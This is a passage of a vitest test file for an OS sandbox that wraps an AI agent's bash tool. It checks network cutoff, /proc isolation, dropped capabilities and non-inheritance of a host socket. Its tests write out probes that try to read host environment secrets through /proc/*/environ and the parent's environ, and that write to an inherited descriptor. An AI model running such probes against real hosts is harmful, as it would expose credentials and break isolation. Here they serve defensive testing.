    // A name under .invalid never resolves anywhere, and inside the namespace no packet can leave anyway.
    const lookup = await attempt(tools.bash, 'node', ['-e', "require('dns').lookup('toolsmith.invalid', (e) => { console.error(e.code); process.exit(1) })"])
    expect(lookup.ok).toBe(false)
    expect(lookup.text.match(/this sandbox has no network/g)).toHaveLength(2) // in the message and in details.output
    const refused = await attempt(tools.bash, 'node', ['-e', "require('net').connect(1, '127.0.0.1').on('error', (e) => { console.error(e.code); process.exit(1) })"])
    expect(refused.text).toContain('ECONNREFUSED')
    expect(refused.text).toContain('this sandbox has no network')
    // A failure that has nothing to do with the network gets no such line.
    const plain = await attempt(tools.bash, 'sh', ['-c', 'echo compile error; exit 2'])
    expect(plain.text).not.toContain('this sandbox has no network')
  })
})

describe('OS sandbox: processes and descriptors', () => {
  it('/proc shows no host process, and the kit is invisible whatever the options', async () => {
    const marker = fs.readFileSync(`/proc/${process.pid}/environ`, 'latin1').split('\0').find((entry) => /^[A-Z_]+=./.test(entry) && !/^(PATH|HOME|LANG|TERM|USER|SHELL|PWD|TZ|LOGNAME)=/.test(entry))
    expect(marker, 'the kit has some environment variable of its own').toBeDefined()
    for (const options of [{}, { isolation: { network: false, pid: false } }, { allowNetwork: true }] as SandboxOptions[]) {
      const bash = make(options).bash
      const listing = await attempt(bash, 'sh', ['-c', 'ls /proc | grep -E "^[0-9]+$" | tr "\\n" " "'])
      const pids = listing.text.trim().split(' ').map(Number)
      expect(Math.max(...pids), listing.text).toBeLessThan(10)
      for (const route of [`cat /proc/${process.pid}/environ`, `tr '\\0' '\\n' < /proc/$PPID/environ`, `cat /proc/1/environ`, 'cat /proc/*/environ']) {
        const result = await attempt(bash, 'sh', ['-c', route])
        expect(result.text, `${JSON.stringify(options)} ${route}`).not.toContain(marker!)
      }
      const cmdlines = await attempt(bash, 'sh', ['-c', 'cat /proc/*/cmdline | tr "\\0" " "'])
      expect(cmdlines.text).not.toMatch(/vitest/)
    }
  })

  it('every capability is dropped and the command leads its own session', async () => {
    const status = await attempt(tools.bash, 'sh', ['-c', 'grep -E "^Cap(Inh|Prm|Eff|Bnd|Amb)" /proc/self/status; ps -o sid= -p $$ 2>/dev/null || true'])
    expect(status.ok).toBe(true)
    for (const line of status.text.split('\n').filter((l) => l.startsWith('Cap'))) expect(line).toMatch(/:\s+0000000000000000$/)
    expect(status.text.match(/^Cap/gm)).toHaveLength(5)
  })

  it('a socket the host process holds at fd 40 is not passed in', async () => {
    const received: string[] = []
    const server = net.createServer((socket) => socket.on('data', (chunk) => received.push(String(chunk))))
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    const { port } = server.address() as net.AddressInfo
    const client = net.connect(port, '127.0.0.1')
    await new Promise((resolve) => client.once('connect', resolve))
    const barrel = path.resolve('lib/index.ts')
    // A "host" process that inherited the socket at fd 40 (not close-on-exec), as a supervisor might leave it.
    const host = `
      import { spawnSync } from 'node:child_process'
      import { createTools, createDispatchContext } from ${JSON.stringify(barrel)}
      const tools = createTools({ rootDir: ${JSON.stringify(root)} })
      const run = async (tool, args) => { try { return String(await tool.executor(createDispatchContext())(args)) } catch (e) { return e.cause?.code + ' ' + e.cause?.details?.output } }
      console.log('bash:', await run(tools.bash, { cmd: 'bash', args: ['-c', 'echo from-bash 2>/dev/null >&40; readlink /proc/self/fd/40 || echo closed'] }))
      console.log('opt-out:', await run(createTools({ rootDir: ${JSON.stringify(root)}, isolation: { filesystem: false } }).bash, { cmd: 'bash', args: ['-c', 'echo from-optout 2>/dev/null >&40; readlink /proc/self/fd/40 || echo closed'] }))
      // The control: a plain spawn does pass it on.
      console.log('raw:', spawnSync('bash', ['-c', 'echo from-raw >&40 && echo wrote'], { encoding: 'utf8' }).stdout)
    `
    const file = path.join(root, 'host.mts')
    fs.writeFileSync(file, host)
    const stdio: Array<'ignore' | 'pipe' | 'inherit' | net.Socket> = ['ignore', 'pipe', 'inherit']
    while (stdio.length < 40) stdio.push('ignore')
    stdio.push(client)
    const child = spawn(process.execPath, ['--import', 'tsx', file], { stdio })
    let out = ''
    child.stdout!.on('data', (chunk) => (out += chunk))
    await new Promise((resolve) => child.on('close', resolve))
    await new Promise((resolve) => setTimeout(resolve, 200))
    client.destroy()
    await new Promise((resolve) => server.close(resolve))
    // Inside, fd 40 is closed (by the system bash exec'd first), or /dev/null laid over the inherited socket
    // where there is no bash: what is written there goes nowhere.
    expect(out).toMatch(/^bash: (closed|\/dev\/null)$/m)
    expect(out).toMatch(/^opt-out: (closed|\/dev\/null)$/m)
    expect(out).toMatch(/^raw: wrote$/m)
    expect(received.join('')).toBe('from-raw\n')
  })
})

describe('OS sandbox: everyday commands run (no word guard where the kernel cuts the network)', () => {
  it('npm test, npm run build, grep https://, git remote -v, git status, URLs in arguments', async () => {
    const project = path.join(root, 'project')
    fs.mkdirSync(project)
    fs.writeFileSync(
      path.join(project, 'package.json'),
      JSON.stringify({ name: 'p', version: '1.0.0', scripts: { test: 'node test.js', build: 'node -e "require(\'fs\').writeFileSync(\'out.txt\', \'built\')"' } }),
    )
    fs.writeFileSync(path.join(project, 'test.js'), 'console.log("tests passed")\n')
    fs.writeFileSync(path.join(project, 'x.js'), 'console.log(process.argv.slice(2).join(" "))\n')
    fs.mkdirSync(path.join(project, 'src'))
    fs.writeFileSync(path.join(project, 'src', 'a.js'), 'fetch("https://api.example.com")\n')
    expect(spawnSync('git', ['init', '-q', project]).status).toBe(0)
    expect(spawnSync('git', ['-C', project, 'remote', 'add', 'origin', 'https://example.com/p.git']).status).toBe(0)
    const run = (cmd: string, args: string[]) => attempt(make().bash, cmd, args)
    const cwd = (cmd: string, args: string[]) => run('sh', ['-c', `cd ${project} && "$0" "$@"`, cmd, ...args])
    expect((await cwd('npm', ['test'])).text).toContain('tests passed')
    expect((await cwd('npm', ['run', 'build'])).ok).toBe(true)
    expect(fs.readFileSync(path.join(project, 'out.txt'), 'utf8')).toBe('built')
    expect(await cwd('grep', ['-rn', 'https://', 'src'])).toEqual({ ok: true, text: 'src/a.js:1:fetch("https://api.example.com")\n' })
    expect((await cwd('git', ['remote', '-v'])).text).toContain('origin\thttps://example.com/p.git (fetch)')
    expect((await cwd('git', ['status', '--short'])).ok).toBe(true)
    expect(await cwd('node', ['x.js', '--base', 'http://localhost:3000'])).toEqual({ ok: true, text: '--base http://localhost:3000\n' })
    // A commit message with a URL is no longer refused by words; the repository itself is read-only by default
    // (DEFAULT_READ_ONLY_PATHS), so the commit runs where the narrower list is chosen (see the .git specs above).
    const narrow = createTools({ rootDir: project, readOnlyPaths: ['.git/hooks', '.git/config'], env: gitEnv })
    const commit = await attempt(narrow.bash, 'sh', ['-c', 'git add -A && git commit -qm "see https://x" && git log -1 --format=%s'])
    expect(commit).toEqual({ ok: true, text: 'see https://x\n' })
  }, 60_000)

  it.runIf(has('cargo'))('cargo test --offline', async () => {
    const crate = path.join(root, 'crate')
    fs.mkdirSync(path.join(crate, 'src'), { recursive: true })
    fs.writeFileSync(path.join(crate, 'Cargo.toml'), '[package]\nname = "c"\nversion = "0.1.0"\nedition = "2021"\n')
    fs.writeFileSync(path.join(crate, 'src', 'lib.rs'), '#[test]\nfn works() { assert_eq!(1 + 1, 2); }\n')
    // rustup finds its toolchains through the real home (this spec's HOME is a temporary one).
    const realHome = savedHome ?? os.homedir()
    const env = { RUSTUP_HOME: process.env.RUSTUP_HOME ?? `${realHome}/.rustup`, CARGO_HOME: process.env.CARGO_HOME ?? `${realHome}/.cargo` }
    const result = await attempt(make({ timeoutMs: 120_000, env }).bash, 'sh', ['-c', `cd ${crate} && cargo test --offline 2>&1`])
    expect(result.text).toContain('test result: ok. 1 passed')
  }, 150_000)
})
